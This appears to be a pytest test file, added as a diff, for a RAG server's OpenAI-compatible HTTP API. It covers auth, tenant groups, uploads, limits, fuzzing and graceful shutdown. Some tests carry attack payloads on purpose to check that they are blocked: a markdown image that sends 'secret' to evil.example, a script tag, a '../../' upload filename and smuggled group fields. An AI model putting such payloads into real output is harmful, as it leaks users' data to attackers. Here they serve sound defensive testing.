@@ -1,0 +1,427 @@
+"""The HTTP service against a live uvicorn on loopback: the official `openai` client (stream and not), auth,
+documents, limits, error shape, schema fuzzing, a small load test and graceful shutdown.
+
+Fast layer: the tiny random Llama (real transformers code paths, gibberish answers, so rag mostly abstains)
+and `FixedGenerator` below (a deterministic answer that cites the document, to check citations end to end).
+One `real_model` test asks the bundled SmolLM2 through the openai client.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import httpx
+import openai
+import pytest
+from hypothesis import HealthCheck, settings
+
+from ragft.server import create_app, serve_in_thread
+from ragft.server.app import StreamSanitizer
+from ragft.workspace import Workspace
+from tests.fakes import HashEmbedder
+
+REPO = Path(__file__).resolve().parents[1]
+RETURNS = "# Returns\n\nItems can be returned within 30 days of delivery for a full refund.\n"
+SALARIES = "# Salaries\n\nThe salary bands for engineers are confidential and reviewed every March.\n"
+QUESTION = "How many days do I have to return items?"
+FIXED_ANSWER = "Items can be returned within 30 days [1]."
+
+
+class FixedGenerator:
+    """Deterministic Generator for the fast layer: always `text`, streamed word by word; `gate` can hold it."""
+
+    name = "fixed"
+    context_window = 2048
+
+    def __init__(self, text: str = FIXED_ANSWER, gate: threading.Event | None = None) -> None:
+        self.text = text
+        self.gate = gate
+        self.calls = 0
+
+    def stream(self, messages, max_tokens=64, temperature=0.0, stop=None, adapter=None):  # noqa: ANN001
+        self.calls += 1
+        if self.gate is not None:
+            assert self.gate.wait(30), "test gate never opened"
+        words = self.text.split(" ")
+        for i, word in enumerate(words):
+            yield word if i == 0 else " " + word
+
+    def generate(self, messages, max_tokens=64, temperature=0.0, stop=None, adapter=None):  # noqa: ANN001
+        return "".join(self.stream(messages, max_tokens, temperature, stop, adapter))
+
+    def count_tokens(self, text: str) -> int:
+        return len(text.split())
+
+
+def _docs(tmp_path: Path) -> Path:
+    folder = tmp_path / "docs"
+    folder.mkdir(exist_ok=True)
+    (folder / "returns.md").write_text(RETURNS, encoding="utf-8")
+    return folder
+
+
+def _workspace(tmp_path: Path, generator=None, tiny_dir: Path | None = None, **server: object) -> Workspace:  # noqa: ANN001
+    ws = Workspace(tmp_path / "ws", embedder=HashEmbedder(), generator=generator)
+    if tiny_dir is not None:
+        ws.settings.generator.model = str(tiny_dir)
+    for key, value in server.items():
+        setattr(ws.settings.server, key, value)
+    ws.ingest([_docs(tmp_path)])
+    return ws
+
+
+def _audit(ws: Workspace) -> list[dict]:
+    return [json.loads(line) for line in (ws.path / "audit.jsonl").read_text().splitlines()]
+
+
+def _assert_error_shape(resp: httpx.Response, status: int) -> dict:
+    assert resp.status_code == status, resp.text
+    body = resp.json()
+    assert set(body) == {"error"}
+    assert isinstance(body["error"]["message"], str) and body["error"]["message"]
+    assert isinstance(body["error"]["type"], str)
+    assert "code" in body["error"]
+    return body
+
+
+# --------------------------------------------------------------------------- openai client, tiny model
+def test_openai_client_non_streaming_tiny_model(tmp_path, tiny_model_dir):
+    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
+    with serve_in_thread(create_app(ws)) as url:
+        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
+        ids = [m.id for m in client.models.list().data]
+        assert ids == ["base", "rag"]
+        resp = client.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}], max_tokens=8)
+    assert resp.object == "chat.completion" and resp.model == "rag"
+    assert isinstance(resp.choices[0].message.content, str) and resp.choices[0].message.content
+    extra = resp.model_extra
+    assert isinstance(extra["citations"], list) and isinstance(extra["abstained"], bool)
+    assert resp.usage.prompt_tokens > 0  # the model really ran on a prompt with the retrieved chunk
+    questions = [r for r in _audit(ws) if r["event"] == "question"]
+    assert len(questions) == 1 and questions[0]["strategy"] == "rag" and questions[0]["chunk_ids"]
+
+
+def test_openai_client_streaming_tiny_model(tmp_path, tiny_model_dir):
+    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
+    with serve_in_thread(create_app(ws)) as url:
+        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
+        chunks = list(client.chat.completions.create(
+            model="base", messages=[{"role": "user", "content": QUESTION}], max_tokens=12, stream=True,
+            stream_options={"include_usage": True},
+        ))
+    deltas = [c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content]
+    assert len(deltas) >= 2, "the answer must arrive in several pieces"
+    finals = [c for c in chunks if c.choices and c.choices[0].finish_reason == "stop"]
+    assert len(finals) == 1
+    assert isinstance(finals[0].model_extra["answer"], str) and "citations" in finals[0].model_extra
+    assert chunks[-1].usage is not None and chunks[-1].usage.completion_tokens > 0
+
+
+# --------------------------------------------------------------------------- citations end to end (fixed generator)
+def test_citations_non_streaming_and_streaming(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    with serve_in_thread(create_app(ws)) as url:
+        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=30)
+        resp = client.chat.completions.create(model="rag", messages=[
+            {"role": "system", "content": "be brief"}, {"role": "user", "content": "ignored earlier question"},
+            {"role": "assistant", "content": "..."}, {"role": "user", "content": QUESTION}])
+        stream = list(client.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}],
+                                                     stream=True))
+    assert resp.choices[0].message.content == FIXED_ANSWER
+    cites = resp.model_extra["citations"]
+    assert resp.model_extra["abstained"] is False
+    assert cites[0]["n"] == 1 and "30 days" in cites[0]["text"] and cites[0]["doc_id"]
+    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    assert text == FIXED_ANSWER
+    final = [c for c in stream if c.choices and c.choices[0].finish_reason == "stop"][0].model_extra
+    assert final["citations"] == cites and final["answer"] == FIXED_ANSWER
+
+
+def test_injected_markup_is_not_streamed_live(tmp_path):
+    evil = "See ![x](https://evil.example/?q=secret) and <script>alert(1)</script> 30 days [1]."
+    ws = _workspace(tmp_path, generator=FixedGenerator(evil))
+    with serve_in_thread(create_app(ws)) as url:
+        r = httpx.post(url + "/v1/chat/completions", json={"model": "base", "stream": True,
+                                                          "messages": [{"role": "user", "content": QUESTION}]}, timeout=30)
+    streamed = "".join(json.loads(line[6:])["choices"][0]["delta"].get("content", "")
+                       for line in r.text.splitlines() if line.startswith("data: {") and '"choices": [{' in line)
+    assert "evil.example" not in streamed and "<script" not in streamed
+    assert "image removed" in streamed and "30 days" in streamed
+
+
+def test_stream_sanitizer_holds_back_unfinished_constructs():
+    s = StreamSanitizer()
+    out = [s.feed(p) for p in ["Answer ", "![a", "](http", "s://e.x/y.png)", " done [1]."]]
+    assert "".join(out) == "Answer [image removed: a] done [1]."
+    assert out[1] == out[2] == ""  # nothing of the image was sent while it was still open
+
+
+# --------------------------------------------------------------------------- auth
+def test_auth_missing_wrong_revoked_get_the_same_401(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    alice = ws.users.add("alice", ["support"]).api_key
+    bob = ws.users.add("bob", ["support"]).api_key
+    ws.users.revoke("bob")
+    with serve_in_thread(create_app(ws)) as url:
+        bodies = []
+        for headers in ({}, {"Authorization": "Bearer rgft_wrong"}, {"Authorization": f"Bearer {bob}"},
+                        {"Authorization": alice}):  # last: not a Bearer header
+            r = httpx.get(url + "/v1/models", headers=headers)
+            bodies.append(_assert_error_shape(r, 401))
+            assert r.headers["www-authenticate"].startswith("Bearer")
+        assert all(b == bodies[0] for b in bodies)
+        with pytest.raises(openai.AuthenticationError):
+            openai.OpenAI(base_url=url + "/v1", api_key="rgft_wrong", max_retries=0).models.list()
+        ok = openai.OpenAI(base_url=url + "/v1", api_key=alice, max_retries=0, timeout=30)
+        assert [m.id for m in ok.models.list().data] == ["base", "rag"]
+        ok.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}])
+        assert httpx.get(url + "/healthz").json() == {"status": "ok", "auth": True, "queue": 0}
+    questions = [r for r in _audit(ws) if r["event"] == "question"]
+    assert questions[-1]["principal"] == "alice"
+
+
+def test_groups_filter_retrieval_documents_and_uploads(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    hr_dir = tmp_path / "hr"
+    hr_dir.mkdir()
+    (hr_dir / "salaries.md").write_text(SALARIES, encoding="utf-8")
+    ws.ingest([hr_dir], groups=["hr"])
+    hr_id = [d.doc_id for d in ws.store.list_documents() if d.groups][0]
+    alice = {"Authorization": "Bearer " + ws.users.add("alice", ["support"]).api_key}
+    carol = {"Authorization": "Bearer " + ws.users.add("carol", ["hr"]).api_key}
+    with serve_in_thread(create_app(ws)) as url:
+        # The tenant comes from the key, never from the body: a smuggled "groups"/"user" field changes nothing.
+        body = {"query": "salary bands engineers confidential", "k": 5, "groups": ["hr"], "user": "carol"}
+        hits = httpx.post(url + "/v1/search", json=body, headers=alice).json()["hits"]
+        assert all(h["doc_id"] != hr_id for h in hits)
+        assert hr_id in [h["doc_id"] for h in httpx.post(url + "/v1/search", json=body, headers=carol).json()["hits"]]
+        listed = [d["doc_id"] for d in httpx.get(url + "/v1/documents", headers=alice).json()["data"]]
+        assert hr_id not in listed and len(listed) == 1
+        _assert_error_shape(httpx.delete(url + f"/v1/documents/{hr_id}", headers=alice), 404)
+        r = httpx.post(url + "/v1/documents", headers=alice, data={"groups": "hr"},
+                       files={"file": ("x.md", b"# X\n\nplanted text\n", "text/markdown")})
+        _assert_error_shape(r, 403)
+    assert ws.store.get_document(hr_id) is not None
+    searches = [r for r in _audit(ws) if r["event"] == "search"]
+    assert [s["principal"] for s in searches] == ["alice", "carol"]
+
+
+# --------------------------------------------------------------------------- documents through HTTP
+def test_upload_search_delete_through_http(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    canary = "zebracorn"
+    with serve_in_thread(create_app(ws)) as url:
+        files = [("file", ("warranty.md", f"# Warranty\n\nThe {canary} kettle has a two year warranty.\n".encode(), "text/markdown")),
+                 ("file", ("../../evil name.txt", b"Shipping takes three business days.\n", "text/plain"))]
+        r = httpx.post(url + "/v1/documents", files=files, data={"groups": "", "subject": "cust-7"}, timeout=60)
+        assert r.status_code == 200, r.text
+        report = r.json()
+        assert report["added"] == 2 and report["failed"] == [] and report["chunks"] >= 2 and len(report["doc_ids"]) == 2
+        again = httpx.post(url + "/v1/documents", files=files[:1], timeout=60).json()
+        assert again["unchanged"] == 1 or again["updated"] == 1  # same user + name -> same document, no duplicate
+        docs = httpx.get(url + "/v1/documents").json()["data"]
+        assert len(docs) == 3
+        assert all("/uploads/_open/" in d["source"] for d in docs if d["doc_id"] in report["doc_ids"])
+        assert not list((ws.path / "uploads").rglob("*.*")), "staged upload copies must be deleted after ingest"
+        hits = httpx.post(url + "/v1/search", json={"query": f"{canary} warranty", "k": 3}).json()["hits"]
+        target = hits[0]["doc_id"]
+        assert canary in hits[0]["text"]
+        deleted = httpx.delete(url + f"/v1/documents/{target}").json()
+        assert deleted["documents"] == 1 and deleted["chunks"] >= 1
+        hits = httpx.post(url + "/v1/search", json={"query": f"{canary} warranty", "k": 3}).json()["hits"]
+        assert all(canary not in h["text"] for h in hits)
+        _assert_error_shape(httpx.delete(url + f"/v1/documents/{target}"), 404)
+
+
+# --------------------------------------------------------------------------- limits and errors
+def test_limits_413_429_top_k_max_tokens(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator(), max_request_bytes=2048, rate_limit_per_minute=6,
+                    max_top_k=3, max_tokens=32)
+    with serve_in_thread(create_app(ws)) as url:
+        c = httpx.Client(base_url=url, timeout=30)
+        _assert_error_shape(c.post("/v1/documents", files={"file": ("big.txt", b"x" * 5000, "text/plain")}), 413)
+        # Chunked body without Content-Length: counted while streaming in.
+        chunked = c.post("/v1/search", content=iter([b'{"query": "', b"a" * 3000, b'"}']),
+                         headers={"Content-Type": "application/json"})
+        _assert_error_shape(chunked, 413)
+        _assert_error_shape(c.post("/v1/search", json={"query": "returns", "k": 4}), 400)
+        msg = {"model": "rag", "messages": [{"role": "user", "content": QUESTION}]}
+        _assert_error_shape(c.post("/v1/chat/completions", json={**msg, "max_tokens": 33}), 400)
+        assert c.post("/v1/chat/completions", json={**msg, "max_tokens": 32}).status_code == 200
+        statuses = [c.get("/v1/models").status_code for _ in range(6)]
+        assert 429 in statuses
+        r = c.get("/v1/models")
+        body = _assert_error_shape(r, 429)
+        assert body["error"]["type"] == "rate_limit_error" and int(r.headers["retry-after"]) >= 1
+        assert c.get("/healthz").status_code == 200  # not rate limited
+
+
+def test_queue_full_gives_503_and_queued_work_finishes(tmp_path):
+    gate = threading.Event()
+    ws = _workspace(tmp_path, generator=FixedGenerator(gate=gate), max_queue=2)
+    msg = {"model": "base", "messages": [{"role": "user", "content": QUESTION}]}
+    with serve_in_thread(create_app(ws)) as url:
+        results: list[int] = []
+        workers = [threading.Thread(target=lambda: results.append(httpx.post(url + "/v1/chat/completions", json=msg,
+                                                                             timeout=60).status_code)) for _ in range(2)]
+        for t in workers:
+            t.start()
+        deadline = time.monotonic() + 20
+        while httpx.get(url + "/healthz").json()["queue"] < 2:
+            assert time.monotonic() < deadline, "requests never reached the queue"
+            time.sleep(0.05)
+        r = httpx.post(url + "/v1/chat/completions", json=msg, timeout=30)
+        body = _assert_error_shape(r, 503)
+        assert body["error"]["code"] == "queue_full" and r.headers["retry-after"] == "1"
+        gate.set()
+        for t in workers:
+            t.join(30)
+    assert results == [200, 200]
+
+
+def test_error_shape_everywhere(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    with serve_in_thread(create_app(ws)) as url:
+        c = httpx.Client(base_url=url, timeout=30)
+        _assert_error_shape(c.get("/v1/nothing"), 404)
+        _assert_error_shape(c.put("/v1/models"), 405)
+        _assert_error_shape(c.post("/v1/chat/completions", content=b"{not json", headers={"Content-Type": "application/json"}), 400)
+        _assert_error_shape(c.post("/v1/chat/completions", json={"model": "rag", "messages": []}), 400)
+        no_user = {"model": "rag", "messages": [{"role": "system", "content": "hi"}]}
+        _assert_error_shape(c.post("/v1/chat/completions", json=no_user), 400)
+        body = _assert_error_shape(c.post("/v1/chat/completions", json={"model": "ft:nope", "messages": [
+            {"role": "user", "content": "q"}]}), 404)
+        assert body["error"]["code"] == "model_not_found" and "base, rag" in body["error"]["message"]
+        _assert_error_shape(c.get("/v1/report"), 404)
+        assert c.get("/openapi.json").json()["paths"]["/v1/chat/completions"]
+
+
+def test_report_latest_and_one_time_link(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    report = tmp_path / "out"
+    report.mkdir()
+    (report / "index.html").write_text("<html><body><h1>ragft compare</h1></body></html>", encoding="utf-8")
+    (ws.path / "last_report").write_text(str(report), encoding="utf-8")  # what Workspace.compare(report=...) writes
+    key = {"Authorization": "Bearer " + ws.users.add("alice").api_key}
+    with serve_in_thread(create_app(ws)) as url:
+        r = httpx.get(url + "/v1/report", headers=key)
+        assert r.status_code == 200 and "ragft compare" in r.text and "default-src 'none'" in r.headers["content-security-policy"]
+        _assert_error_shape(httpx.get(url + "/v1/report"), 401)
+        ticket = httpx.post(url + "/v1/report/ticket", headers=key).json()
+        assert httpx.get(f"{url}/{ticket['url']}").status_code == 200
+        _assert_error_shape(httpx.get(f"{url}/{ticket['url']}"), 404)  # single use
+
+
+def test_web_ui_is_served_without_external_urls(tmp_path):
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    with serve_in_thread(create_app(ws)) as url:
+        page = httpx.get(url + "/")
+        assert page.status_code == 200 and "script-src 'self'" in page.headers["content-security-policy"]
+        js = httpx.get(url + "/static/app.js").text
+    assert "innerHTML" not in js and "http://" not in js + page.text and "https://" not in js + page.text
+
+
+# --------------------------------------------------------------------------- fuzzing and load
+@pytest.fixture
+def fuzz_schema(tmp_path):
+    import schemathesis
+
+    ws = _workspace(tmp_path, generator=FixedGenerator())
+    return schemathesis.openapi.from_asgi("/openapi.json", create_app(ws))
+
+
+def _fuzz_schema_lazy():
+    import schemathesis.pytest
+
+    return schemathesis.pytest.from_fixture("fuzz_schema")
+
+
+_lazy = _fuzz_schema_lazy()
+
+
+@_lazy.parametrize()
+@settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck), database=None)
+def test_schema_fuzzing_finds_no_server_errors(case):
+    response = case.call()
+    assert response.status_code < 500, f"{case.method} {case.path} -> {response.status_code}: {response.text[:300]}"
+    if response.status_code >= 400:
+        assert set(response.json()) == {"error"}
+
+
+def test_small_load_10_clients_x_2_requests(tmp_path, tiny_model_dir):
+    from benchmarks.server_load import run_load
+
+    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir, rate_limit_per_minute=1000)
+    with serve_in_thread(create_app(ws)) as url:
+        result = run_load(url, clients=10, requests_per_client=2, max_tokens=4)
+    assert result["errors"] == 0 and result["requests"] == 20
+    assert 0 < result["p50_ms"] <= result["p95_ms"]
+
+
+# --------------------------------------------------------------------------- graceful shutdown (real CLI process)
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def test_sigterm_finishes_the_in_flight_stream(tmp_path, tiny_model_dir):
+    ws_dir = tmp_path / "served"
+    ws = Workspace(ws_dir)
+    ws.settings.generator.model = str(tiny_model_dir)
+    from ragft.config import save_settings
+
+    save_settings(ws_dir, ws.settings)
+    port = _free_port()
+    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(REPO)}
+    proc = subprocess.Popen([sys.executable, "-m", "ragft.cli", "serve", "-w", str(ws_dir), "--port", str(port), "--json"],
+                            cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        url = f"http://127.0.0.1:{port}"
+        deadline = time.monotonic() + 90
+        while True:
+            assert proc.poll() is None, proc.stderr.read()
+            try:
+                if httpx.get(url + "/healthz", timeout=2).status_code == 200:
+                    break
+            except httpx.TransportError:
+                pass
+            assert time.monotonic() < deadline, "server did not start"
+            time.sleep(0.2)
+        msg = {"model": "base", "stream": True, "max_tokens": 48, "messages": [{"role": "user", "content": QUESTION}]}
+        with httpx.stream("POST", url + "/v1/chat/completions", json=msg, timeout=60) as r:
+            lines = r.iter_lines()
+            first = next(lines)
+            assert first.startswith("data: ")
+            proc.send_signal(signal.SIGTERM)  # mid-answer
+            rest = list(lines)
+        assert "data: [DONE]" in rest and any('"finish_reason": "stop"' in line for line in rest)
+        assert proc.wait(timeout=60) == 0
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait(10)
+
+
+# --------------------------------------------------------------------------- the real bundled models
+@pytest.mark.real_model
+def test_real_model_answers_through_openai_client(tmp_path, real_embedder, real_generator):
+    ws = Workspace(tmp_path / "real", embedder=real_embedder, generator=real_generator)
+    ws.ingest([_docs(tmp_path)])
+    with serve_in_thread(create_app(ws)) as url:
+        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=300)
+        resp = client.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}], max_tokens=24)
+    extra = resp.model_extra
+    assert resp.usage.prompt_tokens > 0
+    if extra["abstained"]:
+        pytest.fail(f"the bundled model abstained on an answerable question: {resp.choices[0].message.content!r}")
+    assert "30" in resp.choices[0].message.content
+    assert extra["citations"] and "30 days" in extra["citations"][0]["text"]
